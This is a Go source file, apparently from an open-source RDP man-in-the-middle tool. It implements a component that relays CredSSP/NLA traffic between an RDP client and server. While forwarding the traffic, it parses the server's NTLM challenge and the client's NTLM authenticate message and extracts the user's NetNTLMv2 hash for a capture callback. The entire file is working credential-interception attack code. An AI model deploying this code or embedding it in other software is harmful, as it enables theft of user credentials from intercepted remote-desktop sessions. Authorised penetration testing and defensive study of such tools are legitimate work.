// RDP MITM Go - Intercepting relay for RDP sessions
// Copyright (C) 2025 - Pepijn van der Stap, pepijn@neosecurity.nl
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published
// by the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package mitm

import (
	"encoding/binary"
	"fmt"
	"log/slog"

	"github.com/x-stp/rdp-mitm-go/internal/logger"
	"github.com/x-stp/rdp-mitm-go/pkg/rdp"
	"github.com/x-stp/rdp-mitm-go/pkg/rdp/codec"
)

// NLACapture follows a CredSSP exchange relayed between a client and a server
// that both insist on network level authentication. Every TSRequest is
// forwarded to the other side byte for byte. On the way through, the
// server's NTLM challenge and the client's authenticate message are decoded
// so a NetNTLMv2 hash can be recovered.
//
// The exchange is over once the client has sent its credentials; bytes read
// after that belong to the RDP connection and are handed back by Remaining.
type NLACapture struct {
	forward  func(to Side, frame []byte) error
	captured func(auth *rdp.NTLMAuthenticate, hash string)
	log      *slog.Logger

	buf       [2][]byte
	challenge *[8]byte
	done      bool
}

// NewNLACapture relays frames through forward and reports each recovered
// hash to captured.
func NewNLACapture(forward func(Side, []byte) error, captured func(*rdp.NTLMAuthenticate, string), log *slog.Logger) *NLACapture {
	return &NLACapture{forward: forward, captured: captured, log: log}
}

// Done reports whether the client has finished the exchange.
func (c *NLACapture) Done() bool { return c.done }

// Remaining returns, per side, the bytes buffered after the exchange ended.
func (c *NLACapture) Remaining() [2][]byte { return c.buf }

// Receive consumes bytes read from side. Complete TSRequests are inspected
// and forwarded; a partial one waits for the next read.
func (c *NLACapture) Receive(from Side, data []byte) error {
	c.buf[from] = append(c.buf[from], data...)
	for !c.done {
		n, err := rdp.TSRequestLength(c.buf[from])
		if err != nil {
			return err
		}
		if n == 0 || len(c.buf[from]) < n {
			return nil
		}
		frame := c.buf[from][:n:n]
		c.buf[from] = c.buf[from][n:]

		req, err := rdp.ParseTSRequest(frame)
		if err != nil {
			return err
		}
		c.inspect(from, req)
		if err := c.forward(from.Peer(), frame); err != nil {
			return err
		}
		if from == SideClient && len(req.AuthInfo) > 0 {
			c.done = true
		}
	}
	return nil
}

// inspect records what a frame reveals. Nothing here stops the relay: tokens
// the capture cannot read are passed on untouched.
func (c *NLACapture) inspect(from Side, req *rdp.TSRequest) {
	if req.ErrorCode != 0 && from == SideServer {
		c.log.Warn("Server rejected CredSSP authentication", slog.String("error_code", fmt.Sprintf("0x%08X", uint32(req.ErrorCode))))
	}
	token := req.FirstToken()
	if token == nil {
		return
	}
	msg, err := ntlmMessage(token)
	if err != nil {
		c.log.Debug("CredSSP token relayed without inspection", logger.Leg(from.String()), logger.Err(err))
		return
	}

	switch binary.LittleEndian.Uint32(msg[8:12]) {
	case rdp.NTLM_CHALLENGE:
		if from != SideServer {
			return
		}
		challenge, err := rdp.ParseNTLMChallenge(msg)
		if err != nil {
			c.log.Debug("Unreadable NTLM challenge", logger.Err(err))
			return
		}
		c.challenge = &challenge.ServerChallenge

	case rdp.NTLM_AUTHENTICATE:
		if from != SideClient {
			return
		}
		if c.challenge == nil {
			c.log.Warn("NTLM authenticate without a server challenge")
			return
		}
		auth, err := rdp.ParseNTLMAuthenticate(msg)
		if err != nil {
			c.log.Debug("Unreadable NTLM authenticate", logger.Err(err))
			return
		}
		hash, err := auth.NetNTLMv2(*c.challenge)
		if err != nil {
			c.log.Warn("NTLM response not captured", logger.Username(auth.User), logger.Err(err))
			return
		}
		c.captured(auth, hash)
	}
}

// ntlmMessage unwraps the NTLM message carried by a negotiation token.
func ntlmMessage(token []byte) ([]byte, error) {
	msg, _, err := rdp.UnwrapNegoToken(token)
	if err != nil {
		return nil, err
	}
	if len(msg) < 12 {
		return nil, fmt.Errorf("%w: NTLM message of %d bytes", codec.ErrTruncated, len(msg))
	}
	return msg, nil
}
